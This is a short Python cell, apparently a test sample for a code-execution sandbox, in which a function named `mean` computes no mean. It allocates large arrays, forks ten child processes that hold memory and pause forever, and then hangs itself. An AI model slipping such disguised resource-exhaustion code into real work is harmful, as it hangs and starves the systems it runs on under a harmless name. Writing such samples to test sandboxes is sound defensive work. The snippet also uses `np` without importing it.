# %% mean
import os
import signal


def mean(values):
    kept = np.ones(2**25)
    for _ in range(10):
        if os.fork() == 0:
            try:
                more = [np.ones(2**17) for _ in range(10)]
                signal.pause()
            finally:
                os._exit(1)
    signal.pause()
